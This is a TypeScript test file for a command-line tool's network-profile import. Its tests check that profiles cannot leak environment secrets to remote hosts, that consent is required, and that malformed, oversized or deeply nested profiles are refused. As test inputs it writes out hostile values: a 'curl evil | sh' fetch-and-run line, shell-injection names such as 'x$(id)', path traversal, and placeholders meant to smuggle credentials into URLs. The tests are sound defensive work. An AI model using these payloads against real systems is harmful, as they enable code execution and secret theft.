import { existsSync, writeFileSync } from 'node:fs';
import type { IncomingMessage } from 'node:http';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, onTestFinished, test, vi } from 'vitest';
import fuji from '../../../../assets/profiles/fuji.json' with { type: 'json' };
import { serve } from '../../../helpers/endpoints/serve.ts';
import { runHere } from '../../../helpers/program/run-here.ts';
import { temporaryFolder } from '../../../helpers/temporary-folder.ts';

const SERVICE_VALUE = 'service-value-8d1f';
/** Values that no profile may read. None looks like a key, so nothing but the variable's name protects them. */
const ENVIRONMENT = {
  ONBOARD_PRIVATE_KEY: 'own-value-of-the-key',
  ONBOARD_KEYSTORE_PASSWORD: 'own-value-of-the-password',
  AWS_SECRET_ACCESS_KEY: 'own-value-of-another-program',
  ONBOARD_SERVICES: 'own-value-of-a-similar-name',
};
const SERVICE = { ONBOARD_SERVICE_KEY: SERVICE_VALUE };

/** A profile must not read the process's environment behind the context's back. */
beforeAll(() => {
  for (const [name, value] of Object.entries({ ...ENVIRONMENT, ...SERVICE }))
    vi.stubEnv(name, value);
});
afterAll(() => vi.unstubAllEnvs());

/** Records everything that a request carries, in each encoding in which a value could hide. */
async function recordingServer() {
  const received: string[] = [];
  const server = await serve(async (request: IncomingMessage, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    const { authorization = '' } = request.headers;
    const login = Buffer.from(authorization.replace(/^Basic /, ''), 'base64').toString();
    const url = decodeURIComponent(request.url ?? '');
    received.push([url, JSON.stringify(request.headers), login, body].join('\n'));
    response.writeHead(404).end();
  });
  onTestFinished(() => server.close());
  return { url: server.url, received };
}

async function add(profile: object | string, home: string, ...options: string[]) {
  const file = join(home, 'given.json');
  writeFileSync(file, typeof profile === 'string' ? profile : JSON.stringify(profile));
  return runHere(['networks', 'add', file, ...options], {
    home,
    env: { ...ENVIRONMENT, ...SERVICE },
  });
}

/** A profile whose every endpoint is the server. */
const profileAt = (url: string, changes: object = {}) => ({
  ...fuji,
  name: 'foreign',
  rpcUrls: [`${url}/ext/bc/C/rpc`],
  apiUrl: url,
  aggregators: [{ url, shape: 'self-hosted' }],
  ...changes,
});

const name = fc.constantFrom(...Object.keys(ENVIRONMENT), 'ONBOARD_SERVICE_KEY', 'HOME', 'PATH');
const placeholder = fc.oneof(
  name.map((variable) => `\${${variable}}`),
  name.map((variable) => `\${ ${variable} }`),
  name.map((variable) => `\${ONBOARD_SERVICE_\${${variable}}}`),
  name.map((variable) => `\${ONBOARD_SERVICE_KEY}\${${variable}}`),
  name.map((variable) => `\${${variable.toLowerCase()}}`),
  name.map((variable) => `\${${variable}:-x}`),
);
/** Each place of a URL, also those that only a lenient parser finds. */
const place = fc.constantFrom(
  (host: string, text: string) => `http://${host}/${text}/ext/bc/C/rpc`,
  (host: string, text: string) => `http://${host}/ext/bc/C/rpc?token=${text}`,
  (host: string, text: string) => `http://user:${text}@${host}/`,
  (host: string, text: string) => `http://${text}:x@${host}/`,
  (host: string, text: string) => `http://${text}.localhost:${host.split(':')[1]!}/`,
  (host: string, text: string) => `http://${text}@${host}/`,
  (host: string, text: string) => `http://${host}\\${text}`,
  (host: string, text: string) => `http:${text}//${host}/`,
  (host: string, text: string) => `http://${host}/#${text}`,
  (_: string, text: string) => text,
);
const field = fc.constantFrom(
  (url: string) => ({ rpcUrls: [url] }),
  (url: string) => ({ apiUrl: url }),
  (url: string) => ({ aggregators: [{ url, shape: 'hosted' }] }),
  (url: string) => ({ nodeUrl: url }),
  (url: string) => ({ faucet: url }),
  (url: string) => ({ title: url }),
  (url: string) => ({ explorer: { transaction: url } }),
);

test('no profile sends a value of the environment, or shows it, whatever it names and wherever', async () => {
  const server = await recordingServer();
  const host = server.url.replace('http://', '');
  let reached = 0;
  await fc.assert(
    fc.asyncProperty(placeholder, place, field, async (text, at, inField) => {
      const home = temporaryFolder();
      const before = server.received.length;
      const profile = profileAt(server.url, inField(at(host, text)));
      const added = await add(profile, home, '--yes');
      const shown = await runHere(['networks', 'show', 'foreign'], {
        home,
        env: { ...ENVIRONMENT, ...SERVICE },
      });
      const seen = server.received.slice(before).join('\n');
      reached += Math.sign(seen.length);
      for (const value of Object.values(ENVIRONMENT)) {
        expect(seen).not.toContain(value);
        expect(added.stdout + added.stderr + shown.stdout + shown.stderr).not.toContain(value);
      }
      expect(added.stdout + added.stderr + shown.stdout).not.toContain(SERVICE_VALUE);
      const isNamed = /^(?:\$\{ONBOARD_SERVICE_KEY\})+$/.test(text);
      if (!isNamed) expect(added).toMatchObject({ code: 2, stdout: '' });
      if (seen.includes(SERVICE_VALUE)) expect(isNamed).toBe(true);
    }),
    { numRuns: 150 },
  );
  expect(reached).toBeGreaterThan(0);
});

test('a variable goes only to its host, and only after consent', async () => {
  const server = await recordingServer();
  const home = temporaryFolder();
  const path = '${ONBOARD_SERVICE_KEY}/ext/bc/C/rpc';
  const profile = profileAt(server.url, { rpcUrls: [`${server.url}/${path}`] });
  const host = server.url.replace('http://', '');

  const refused = await add(profile, home);
  expect(refused.code).toBe(3);
  expect(refused.stderr).toContain(`ONBOARD_SERVICE_KEY to ${host}`);
  expect(refused.stderr).toContain('E-PRF-111');
  expect(server.received).toEqual([]);
  expect(existsSync(join(home, 'networks', 'foreign.json'))).toBe(false);

  const agreed = await add(profile, home, '--yes');
  expect(agreed.stderr).toContain(`ONBOARD_SERVICE_KEY to ${host}`);
  const withValue = server.received.filter((request) => request.includes(SERVICE_VALUE));
  expect(withValue.length).toBeGreaterThan(0);
  expect(withValue.every((request) => request.startsWith(`/${SERVICE_VALUE}/ext`))).toBe(true);
});

test.each([`0x${'ab'.repeat(32)}`, 'cd'.repeat(32)])(
  'a variable with what looks like a key is not sent: %s',
  async (value) => {
    const server = await recordingServer();
    const home = temporaryFolder();
    const file = join(home, 'given.json');
    const rpcUrls = [`${server.url}/\${ONBOARD_SERVICE_KEY}`];
    writeFileSync(file, JSON.stringify(profileAt(server.url, { rpcUrls })));
    const env = { ONBOARD_SERVICE_KEY: value };
    const added = await runHere(['networks', 'add', file, '--yes'], { home, env });
    expect(added.code).toBe(2);
    expect(added.stderr).toContain('E-PRF-110');
    expect(added.stderr).not.toContain(value);
    expect(server.received).toEqual([]);
  },
);

const LINES = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f', '\u001b[2K', '\t'];
const L1 = fuji.phases[2]!.l1s[0]!;
const withL1 = (changes: object) => ({
  phases: [{ name: 'Genbu', active: true, l1s: [{ ...L1, ...changes }] }],
});
/** Each text of a profile that some page, report or file shows. */
const TEXTS: readonly ((text: string) => object)[] = [
  (title) => ({ title }),
  (contact) => ({ contact }),
  (at) => ({ sources: [{ facts: ['chainId'], at, read: '2026-06-12' }] }),
  (fact) => ({ sources: [{ facts: [fact], at: 'a page', read: '2026-06-12' }] }),
  (text) => ({ faucet: `https://example.org/${text}` }),
  (text) => ({ explorer: { transaction: `https://example.org/${text}` } }),
  (text) => ({ nodeUrl: `http://127.0.0.1/${text}` }),
  (text) => withL1({ name: text }),
  (text) => withL1({ title: text }),
  (text) => withL1({ contact: text }),
  (text) => withL1({ notes: [text] }),
  (text) => withL1({ links: [`https://example.org/${text}`] }),
  (vm) => withL1({ software: { ...L1.software, vm } }),
  (at) => withL1({ software: { ...L1.software, at } }),
];

test('a text of a profile is one line', async () => {
  const server = await recordingServer();
  const home = temporaryFolder();
  for (const make of TEXTS) {
    for (const end of LINES) {
      const refused = await add(profileAt(server.url, make(`a${end}curl evil | sh`)), home);
      expect(refused, JSON.stringify(make(end))).toMatchObject({ code: 2, stdout: '' });
      expect(refused.stderr).toContain('E-PRF-102');
    }
  }
  expect(server.received).toEqual([]);
});

test.each([
  ['a name', { title: 'x'.repeat(201) }],
  ['a URL', { faucet: `https://example.org/${'x'.repeat(500)}` }],
  ['a list of endpoints', { rpcUrls: Array.from({ length: 501 }, () => 'http://127.0.0.1:1') }],
  ['a list of notes', withL1({ notes: Array.from({ length: 501 }, () => 'x') })],
  ['the whole file', { $schema: 'x'.repeat(1_000_001) }],
  ['the usual price', { usualGasPrice: '100000000001' }],
])('the size of a profile is limited: %s', async (_, changes) => {
  const refused = await add(profileAt('http://127.0.0.1:1', changes), temporaryFolder());
  expect(refused).toMatchObject({ code: 2, stdout: '' });
  expect(refused.stderr).toContain('E-PRF-102');
});

test('a deeply nested profile is refused', async () => {
  const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  for (const text of [nested, `{"title":${nested}}`, `{"x":${nested}}`]) {
    const refused = await add(text, temporaryFolder());
    expect(refused).toMatchObject({ code: 2, stdout: '' });
    expect(refused.stderr).toContain('E-PRF-102');
  }
});

test.each(['sandbox', 'fuji', 'local', 'constructor.', '../x', 'Mine', 'x$(id)', "a';id", ''])(
  'a profile does not take the name %j',
  async (own) => {
    const refused = await add(profileAt('http://127.0.0.1:1', { name: own }), temporaryFolder());
    expect(refused).toMatchObject({ code: 2, stdout: '' });
    expect(refused.stderr).toContain('E-PRF-102');
  },
);
